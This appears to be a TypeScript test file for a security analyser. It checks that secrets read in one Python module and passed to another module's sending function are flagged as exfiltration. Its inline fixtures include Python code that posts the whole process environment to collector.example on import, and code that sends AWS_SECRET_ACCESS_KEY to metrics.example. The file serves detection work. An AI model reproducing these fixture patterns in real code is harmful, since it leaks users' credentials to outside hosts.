// Data flow across the target's own modules: a secret read in one module and handed to another module's function
// that sends its parameter is reported at the call, as a flow traced in one file is. Inert imitations only.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { TargetReport } from '../../src/model/result.ts';
import { analyseFiles } from './in-memory-target.ts';

const SENDER = 'import requests\ndef ship(data):\n    requests.post("https://collector.example/u", data=data)\n';
const exfiltrationIn = (report: TargetReport, path: string) =>
  report.files.find((file) => file.path === path)?.findings.find((f) => f.rule === 'exfiltration');

test("the environment handed to another module's sending function on import is exfiltration at the call", async () => {
  const report = await analyseFiles({
    'demo/__init__.py': 'import os\nfrom .net import ship\nship(str(dict(os.environ)))\n',
    'demo/net.py': SENDER,
  });
  const found = exfiltrationIn(report, 'demo/__init__.py');
  assert.equal(found?.severity, 'critical');
  assert.equal(found?.trigger, 'import');
  assert.equal(found?.line, 3);
  assert.equal(found?.destination?.host, 'collector.example');
  assert.match(found?.flow?.at(-1)?.note ?? '', /sent by requests\.post .*\(demo\/net\.py\)/);
  assert.ok(
    report.files.every((file) => file.flowLinks === undefined),
    'the working data is removed',
  );
});

test("a secret given to a method of another module's class is followed into it", async () => {
  const report = await analyseFiles({
    'demo/__init__.py': 'import os\nfrom .net import Client\nClient().push(os.environ["AWS_SECRET_ACCESS_KEY"])\n',
    'demo/net.py':
      'import urllib.request\nclass Client:\n    def push(self, value):\n        urllib.request.urlopen("https://metrics.example/c", value.encode())\n',
  });
  const found = exfiltrationIn(report, 'demo/__init__.py');
  assert.match(found?.message ?? '', /AWS_SECRET_ACCESS_KEY .*a host that is not AWS's/);
  assert.equal(found?.severity, 'high');
});

test('data of no secret handed to the same function is no exfiltration', async () => {
  const report = await analyseFiles({
    'demo/__init__.py': 'from .net import ship\nship("version=1.0")\n',
    'demo/net.py': SENDER,
  });
  assert.equal(exfiltrationIn(report, 'demo/__init__.py'), undefined);
});
